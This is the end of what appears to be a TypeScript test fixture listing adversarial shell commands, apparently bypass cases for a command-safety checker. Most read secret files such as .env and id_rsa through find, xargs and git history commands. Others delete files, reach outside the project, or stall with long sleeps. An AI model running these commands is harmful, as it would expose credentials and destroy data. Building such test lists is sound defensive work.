find . -type f -name '*.ts' -o -type f -exec cat {} +
find . -type f \( -name '*.ts' -o -name '*env' \) -exec cat {} +
find . -name '*.ts' -o -name '.e*' | xargs cat
find . -type f -not -not -name '*.ts' | xargs -0 cat
find . -type f -name '*.ts' , -type f -exec cat {} +
find . -name '*.ts' -exec head -1 {} \; -o -type f -exec cat {} \;
for f in $(find src -name '*.ts'); do :; done; cd docs; cat $f
for f in $(find . -type f); do cat $f; done
for f in $(find src -name '*.ts'); do cd docs; cat $f; done
for f in $(ls -a); do cat $f; done
git show HEAD -- ':!docs' .env
git log -p HEAD^{tree}:.env
git show HEAD^{tree}:.env
git show stash@{0}:.env
git show stash:.env
git show 'HEAD:src/../.env'
git show HEAD:.env~
git show "HEAD:.env "
git show HEAD:id_rsa
git show @:.env
git show :1:.env
git diff HEAD:.env HEAD:README.md
git diff HEAD -- .env
git diff -- id_rsa
git log -p -- id_rsa .env
git log -p --all -- '*.key'
git log --all -p -- ':(icase).ENV'
git log -p -- ':(literal).env'
git log -p -- ':(glob)**/.env'
git log -p -- ':(attr:x).env'
git log -p -- ':!README.md' .env
git diff --no-index .env README.md
git diff --no-index README.md .env
git blame .env
git blame -L1,2 .env
git blame HEAD -- .env
git annotate .env
git log -L1,3:.env
git log -L :x:.env
git grep KEY .env
git grep -e KEY -- ./.env
git grep --cached . -- '*.env'
git archive HEAD .env
git format-patch --stdout -1
git format-patch --root --stdout
git bundle create - HEAD
git cat-file blob :.env
git ls-files -s | awk '{print $2}' | xargs -n1 git cat-file -p
git rev-list --all | xargs -n1 git show
git rev-list --objects --all | cut -d' ' -f1 | xargs -n1 git cat-file -p
git log --format=%H | while read h; do git show $h; done
for h in $(git rev-list --all); do git show "$h"; done
git stash show -p -u > p
git stash show --only-untracked
git notes show > p
git submodule--helper list
git credential-cache exit
git http-fetch x y
git remote-https x y
git merge-recursive a b
git checkout-index -f README.md
git update-index --assume-unchanged README.md
git rm --cached README.md
git rev-parse --resolve-git-dir /etc
git rev-parse --prefix ../ x > p
git ls-tree HEAD ..
git ls-files ..
git ls-files /
git status ..
git status ../..
git diff -- ..
git -C src diff -- ../..
git diff ../outside.txt README.md
git check-ignore ../x > p
git symbolic-ref -d HEAD
git show-ref --exclude-existing=x < .env
git show-branch --reflog=5 > p
git name-rev --annotate-stdin < .env
git describe --debug > p
git whatsnew
x=$(git show HEAD:.env)
n=$(wc -l < .env; touch p); echo $n
n=$(wc -l < README.md && rm x); echo $n
n=$(grep -c KEY .env); echo $((n+1))
n=$(date +%s -s now); echo $n
n=$(git rev-list --count HEAD --output=p); echo $((n))
n=$(wc -l < README.md | tee p); echo $((n))
n=$(rm x | wc -l); echo $((n))
n=$(wc -l < ../outside.txt); echo $((n))
n=$(nproc > p); echo $((n))
n=$(grep -rc KEY .); echo $((n))
n=$(wc -l README.md); echo $((n))
n=$(grep -c x README.md data.csv); echo $((n))
n=$(grep -Hc x README.md); echo $((n))
n=$(date +%c); echo $((n))
n=$(id -un); echo $((n))
n=$(cat README.md | head -1); echo $((n))
n=$(wc -lc < README.md); echo $((n))
n=$(wc -l < nofile); xxd -s $n -l 5 README.md
xxd -s $(wc -l < nofile) -l 5 README.md
xxd -l $(nproc) README.md p
n=$(nproc); xxd -l $n README.md p
n=$(wc -l < nofile); sort -k1 -S $n -o p README.md
uniq -f $(wc -l < nofile) -c README.md p
sleep $(date +%s)
n=$(date +%s); sleep $n
seq $(date +%s)
n=$(date +%s); for ((i=0;i<n;i++)); do :; done
head -c "$(date +%s)" /dev/zero
find . ! -name '*.ts' -delete
find . -not -name '*.ts' -exec rm {} +
find . -not -path './node_modules/*' -type f | xargs cat
find . -not -path './node_modules/*' -type f -exec cat {} +
find . -not -name .env -type f | xargs cat
find . -not -name '*.md' -name '.e*' | xargs cat
find . -name '*.md' -not -name x -fprint p
find . -name '*.md' -not -newer /etc/passwd | xargs rm
find . -type f ! -name '-name' '*.ts' | xargs cat
find . ! -name -name -type f | xargs cat
find . -not -name '*.ts' -o -name '*.md' | xargs cat
find . -path '*.md' -not -name '*.md' | xargs cat
for i in {1..100}; do sleep 10; done
for i in {1..100}; do timeout 600 sleep 600; done
while read l; do sleep 60; done < README.md
find . -name '*.ts' -exec sleep 600 \;
ls src | xargs -I{} sleep 600
`
  .split('\n')
  .filter(line => line !== '')
  .map(line => line.replaceAll('\\${', '${'));
